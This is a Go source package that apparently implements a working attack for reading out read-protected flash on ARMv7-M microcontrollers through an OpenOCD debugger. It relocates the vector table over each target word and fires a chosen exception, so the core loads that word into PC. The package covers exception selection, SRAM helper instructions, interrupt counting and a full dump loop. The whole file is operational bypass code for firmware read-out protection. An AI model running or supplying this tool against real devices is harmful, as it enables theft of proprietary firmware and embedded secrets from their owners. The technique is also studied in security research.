// Package extract recovers words of read-protected flash on ARMv7-M
// targets. The vector table is relocated over the word of interest and
// the matching exception is triggered, so the core loads the word into
// PC during exception entry where the debugger can read it.
package extract

import (
	"context"
	"errors"
	"fmt"
	"math/bits"

	"github.com/golang/glog"

	"github.com/robotalks/blinky.go/pkg/openocd"
)

// Register is a core register number as accepted by "reg".
type Register int

// Core registers.
const (
	R0 Register = iota
	R1
	R2
	R3
	R4
	R5
	R6
	R7
	R8
	R9
	R10
	R11
	R12
	SP
	LR
	PC
	PSR
)

// Name returns the register operand of the reg command.
func (r Register) Name() string {
	return openocd.RegNum(int(r))
}

// WordSize is the size of an extracted word in bytes.
const WordSize = 4

// System addresses.
const (
	InitialSP uint32 = 0x20000200

	VTORAddr      uint32 = 0xe000ed08
	ICSRAddr      uint32 = 0xe000ed04
	SHCSRAddr     uint32 = 0xe000ed24
	NVICISER0Addr uint32 = 0xe000e100
	NVICISPR0Addr uint32 = 0xe000e200
	DEMCRAddr     uint32 = 0xe000edfc
	// MemXNAddr is in a region with the eXecute-Never property.
	MemXNAddr     uint32 = 0xe0000000
)

// Helper instructions placed in SRAM by Prepare.
const (
	SVCInstAddr   uint32 = 0x20000000
	NOPInstAddr   uint32 = 0x20000002
	LDRInstAddr   uint32 = 0x20000004
	UndefInstAddr uint32 = 0x20000006
)

var helperInsts = []struct {
	addr uint32
	inst uint32
}{
	{SVCInstAddr, 0xdf00},   // svc #0
	{NOPInstAddr, 0xbf00},   // nop
	{LDRInstAddr, 0x7b75},   // ldrb r5, [r6, #13]
	{UndefInstAddr, 0xffff}, // undefined
}

// ThumbPSR is the xPSR value with only the T bit set.
const ThumbPSR uint32 = 0x01000000

// MaxExtInterrupts is the number of external interrupts ARMv7-M supports.
const MaxExtInterrupts = 496

// Inaccessible reports whether the exception number can't be generated.
func Inaccessible(n int) bool {
	switch n {
	case 0, 1, 7, 8, 9, 10, 13:
		return true
	}
	return false
}

// UnhandledExceptionError indicates an exception number without a recipe.
type UnhandledExceptionError struct {
	Number int
}

// Error implements error.
func (e *UnhandledExceptionError) Error() string {
	return fmt.Sprintf("exception number %d not handled", e.Number)
}

// Target is the debugger interface used for extraction, implemented by
// *openocd.Client.
type Target interface {
	Send(cmd string) (string, error)
	Halt() error
	Step() error
	ResetHalt() error
	ResetInit() error
	WriteMemory(addr uint32, words []uint32, width int) error
	WriteRegister(reg string, value uint32) error
	ReadRegister(reg string) (uint32, error)
	ReadRegisterList(regs ...string) ([]uint32, error)
}

type regValue struct {
	reg   Register
	value uint32
}

func writeWord(t Target, addr, value uint32) error {
	return t.WriteMemory(addr, []uint32{value}, 32)
}

func writeRegs(t Target, regs []regValue) error {
	for _, r := range regs {
		if err := t.WriteRegister(r.reg.Name(), r.value); err != nil {
			return err
		}
	}
	return nil
}

// nvicBit returns the offset of the NVIC register and the bit of an
// external interrupt.
func nvicBit(irq int) (uint32, uint32) {
	return uint32(irq/32) * WordSize, 1 << uint(irq%32)
}

func pendExtInterrupt(t Target, irq int) error {
	offset, value := nvicBit(irq)
	if err := writeWord(t, NVICISER0Addr+offset, value); err != nil {
		return err
	}
	return writeWord(t, NVICISPR0Addr+offset, value)
}

// GenerateException resets the target, relocates the vector table to
// vtor and single-steps into exception n.
func GenerateException(t Target, vtor uint32, n int) error {
	if err := t.ResetHalt(); err != nil {
		return err
	}
	if err := writeWord(t, VTORAddr, vtor); err != nil {
		return err
	}
	var regs []regValue
	var err error
	switch {
	case n == 2:
		// NMI
		err = writeWord(t, ICSRAddr, 1<<31)
		regs = append(regs, regValue{PC, NOPInstAddr})
	case n == 3:
		// HardFault by escalation, UsageFault is disabled
		regs = append(regs, regValue{PC, UndefInstAddr})
	case n == 4:
		err = writeWord(t, SHCSRAddr, 0x10000)
		regs = append(regs, regValue{PC, MemXNAddr})
	case n == 5:
		err = writeWord(t, SHCSRAddr, 0x20000)
		regs = append(regs, regValue{PC, LDRInstAddr}, regValue{R6, 0xffffff00})
	case n == 6:
		err = writeWord(t, SHCSRAddr, 0x40000)
		regs = append(regs, regValue{PC, UndefInstAddr})
	case n == 11:
		regs = append(regs, regValue{PC, SVCInstAddr})
	case n == 12:
		err = writeWord(t, DEMCRAddr, 1<<17)
		regs = append(regs, regValue{PC, NOPInstAddr})
	case n == 14:
		// PendSV
		err = writeWord(t, ICSRAddr, 1<<28)
		regs = append(regs, regValue{PC, NOPInstAddr})
	case n == 15:
		// SysTick
		err = writeWord(t, ICSRAddr, 1<<26)
		regs = append(regs, regValue{PC, NOPInstAddr})
	case n >= 16:
		err = pendExtInterrupt(t, n-16)
		regs = append(regs, regValue{PC, NOPInstAddr})
	default:
		return &UnhandledExceptionError{Number: n}
	}
	if err != nil {
		return err
	}
	regs = append(regs, regValue{PSR, ThumbPSR}, regValue{SP, InitialSP})
	if err := writeRegs(t, regs); err != nil {
		return err
	}
	return t.Step()
}

// RecoverPC reads PC and restores its LSB from the EPSR T bit.
func RecoverPC(t Target) (uint32, error) {
	values, err := t.ReadRegisterList(PC.Name(), PSR.Name())
	if err != nil {
		return 0, err
	}
	return values[0] | (values[1]>>24)&1, nil
}

// DetermineNumExtInterrupts counts the external interrupts the target
// takes, trying them in order until one is not taken or ctx is done.
func DetermineNumExtInterrupts(ctx context.Context, t Target) (int, error) {
	count := 0
	for i := 0; i < MaxExtInterrupts; i++ {
		if err := ctx.Err(); err != nil {
			return count, err
		}
		if err := t.ResetInit(); err != nil {
			return count, err
		}
		if err := pendExtInterrupt(t, i); err != nil {
			return count, err
		}
		err := writeRegs(t, []regValue{
			{PC, NOPInstAddr},
			{PSR, ThumbPSR},
			{SP, InitialSP},
		})
		if err != nil {
			return count, err
		}
		if err := t.Step(); err != nil {
			return count, err
		}
		xpsr, err := t.ReadRegister(PSR.Name())
		if err != nil {
			return count, err
		}
		if int(xpsr&0x1ff) != i+16 {
			break
		}
		count++
	}
	return count, nil
}

// Align rounds addr down to a multiple of base.
func Align(addr, base uint32) uint32 {
	return addr - addr%base
}

// CalculateVTORExc returns the vector table address and the exception
// number which load the word at addr into PC. The table size is the
// largest power of two not above numExceptions. When the number is
// inaccessible, the wrap-around of the vector address is used if the
// table is not aligned to twice its size and the device has enough
// exceptions.
func CalculateVTORExc(addr uint32, numExceptions int) (uint32, int) {
	if numExceptions < 1 {
		numExceptions = 1
	}
	tableSize := 1 << uint(bits.Len(uint(numExceptions))-1)
	vtor := Align(addr, uint32(tableSize)*WordSize)
	n := int((addr - vtor) / WordSize)
	if !Inaccessible(n) {
		return vtor, n
	}
	if vtor%(uint32(tableSize)*2*WordSize) != 0 && n+tableSize < numExceptions {
		n += tableSize
	}
	return vtor, n
}

// Word is one extracted word. OK is false if the word can't be reached
// by any exception.
type Word struct {
	Addr  uint32
	Value uint32
	OK    bool
}

// Extractor reads words through a Target.
type Extractor struct {
	Target Target
	// NumExceptions includes the 16 system exceptions. Prepare
	// determines it when zero.
	NumExceptions int
}

// New creates an Extractor.
func New(t Target) *Extractor {
	return &Extractor{Target: t}
}

// Prepare disables interrupt masking while stepping, places the helper
// instructions in SRAM and determines the number of exceptions.
func (e *Extractor) Prepare(ctx context.Context) error {
	// maskisr can only be changed on a halted target
	if err := e.Target.Halt(); err != nil {
		return err
	}
	if _, err := e.Target.Send("cortex_m maskisr off"); err != nil {
		return err
	}
	for _, h := range helperInsts {
		if err := e.Target.WriteMemory(h.addr, []uint32{h.inst}, 16); err != nil {
			return err
		}
	}
	if e.NumExceptions == 0 {
		n, err := DetermineNumExtInterrupts(ctx, e.Target)
		if err != nil {
			return err
		}
		e.NumExceptions = 16 + n
		glog.Infof("target has %d external interrupts", n)
	}
	return nil
}

// ReadWord recovers the word at addr.
func (e *Extractor) ReadWord(addr uint32) (Word, error) {
	w := Word{Addr: addr}
	var err error
	switch addr {
	case 0:
		// initial SP
		if err = e.Target.ResetHalt(); err == nil {
			w.Value, err = e.Target.ReadRegister(SP.Name())
		}
		w.OK = err == nil
	case 4:
		// reset vector
		if err = e.Target.ResetHalt(); err == nil {
			w.Value, err = RecoverPC(e.Target)
		}
		w.OK = err == nil
	default:
		vtor, n := CalculateVTORExc(addr, e.NumExceptions)
		if Inaccessible(n) {
			break
		}
		if err = GenerateException(e.Target, vtor, n); err == nil {
			w.Value, err = RecoverPC(e.Target)
		}
		w.OK = err == nil
	}
	if err != nil {
		return w, err
	}
	glog.V(2).Infof("%08x: %08x ok=%v", w.Addr, w.Value, w.OK)
	return w, nil
}

// ErrAddressRange indicates words beyond the 32-bit address space.
var ErrAddressRange = errors.New("address range exceeds 4GiB")

// CheckRange validates length words from start fit in the address space.
func CheckRange(start uint32, length int) error {
	if length < 0 || uint64(start)+uint64(length)*WordSize > 1<<32 {
		return ErrAddressRange
	}
	return nil
}

// Extract recovers length words from start and passes each to emit.
// It stops on the first error, or when ctx is done.
func (e *Extractor) Extract(ctx context.Context, start uint32, length int, emit func(Word) error) error {
	if err := CheckRange(start, length); err != nil {
		return err
	}
	addr := start
	for i := 0; i < length; i++ {
		select {
		case <-ctx.Done():
			return ctx.Err()
		default:
		}
		w, err := e.ReadWord(addr)
		if err != nil {
			return fmt.Errorf("extract %08x: %v", addr, err)
		}
		if err := emit(w); err != nil {
			return err
		}
		addr += WordSize
	}
	return nil
}
